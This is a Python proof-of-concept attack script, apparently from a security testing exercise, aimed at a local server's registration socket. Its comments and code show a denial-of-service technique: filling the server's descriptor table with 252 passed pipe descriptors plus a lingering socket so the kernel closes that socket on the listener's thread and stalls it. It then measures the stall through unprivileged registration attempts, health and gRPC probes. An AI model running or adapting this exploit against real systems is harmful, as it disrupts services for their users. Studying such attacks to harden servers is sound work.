# One message of 252 cheap descriptors + 1 lingering socket LAST, sent while the server's table is too small
# to install all of them (prlimit 256: ~20 used + 253 > 256): the kernel drops the descriptors it could not
# install in recvmsg, and the last reference of the lingering socket is then closed by the kernel on the
# registration listener's own thread (task_work on return from recvmsg), blocking it for l_linger seconds.
# usage: item2_trunc.py NAME LINGER_SECONDS [sigterm]
import sys, time, os, socket, threading
from shm import *
name = sys.argv[1]; L = int(sys.argv[2]); path = f"/tmp/atk2/{name}/shm.sock"; p = pid(name); P = ports(name)
def other_user_register():
    r, w = os.pipe(); ch = os.fork()
    if ch == 0:
        os.close(r); os.setresgid(65534, 65534, 65534); os.setresuid(65534, 65534, 65534)
        res, dt, s = register(path, timeout=4)
        os.write(w, repr((res[0], res[1][:90], dt)).encode()); os._exit(0)
    os.close(w); out = os.read(r, 1000).decode(); os.waitpid(ch, 0); os.close(r); return out
def wchans():
    out = {}
    for t in os.listdir(f"/proc/{p}/task"):
        try: w = open(f"/proc/{p}/task/{t}/wchan").read()
        except Exception: w = "?"
        out[w] = out.get(w, 0) + 1
    return out
print("fds before", nfd(p), "uid65534 reg:", other_user_register())
rp, wp = os.pipe(); c, n = linger_socket(L)
s = conn(path); t = time.time(); send_fds(s, rec(4096), [rp] * 252 + [c.fileno()]); c.close(); os.close(rp); os.close(wp)
s.settimeout(3)
try: print("reply", reply(s), round(time.time() - t, 2))
except Exception as e: print("no reply:", e)
print("fds", nfd(p), "threads:", wchans())
for k in range(4):
    print(" +%.1fs uid65534 reg: %s | health %s | sort %s | fds %d" % (time.time() - t, other_user_register(), health(P["health_port"])[:2], sort(P["grpc_port"])[:2], nfd(p)))
    time.sleep(2)
if len(sys.argv) > 3:
    t = time.time(); os.kill(p, 15)
    while os.path.exists(f"/proc/{p}") and time.time() - t < 60:
        try:
            if open(f"/proc/{p}/stat").read().split()[2] == "Z": break
        except Exception: break
        time.sleep(0.05)
    print("SIGTERM -> gone after %.2fs" % (time.time() - t))
else:
    while time.time() - t < L + 10:
        time.sleep(5); print(" +%.0fs uid65534 reg: %s fds %d" % (time.time() - t, other_user_register(), nfd(p)))
